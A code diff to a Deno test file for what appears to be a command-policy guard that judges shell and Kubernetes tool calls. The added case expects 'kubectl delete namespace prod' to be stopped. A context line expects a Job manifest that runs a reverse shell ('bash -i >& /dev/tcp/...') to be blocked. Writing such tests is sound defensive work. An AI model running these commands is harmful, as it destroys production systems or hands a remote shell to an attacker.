@@ -143,6 +143,11 @@ const job = (namespace: string, command: string) =>
 Deno.test("manifests applied from standard input are judged by what their containers run and where", async () => {
   await expectDecisions([
     [
+      tool("kubectl", { command: "delete", args: ["namespace", "prod"] }),
+      "STOPPED",
+      "a subcommand given apart stays joined",
+    ],
+    [
       run(`oc create -f- <<'YAML'\n${job("ci", "bash -i >& /dev/tcp/203.0.113.77/443 0>&1")}YAML`),
       "BLOCK",
       "oc heredoc, block-list script",
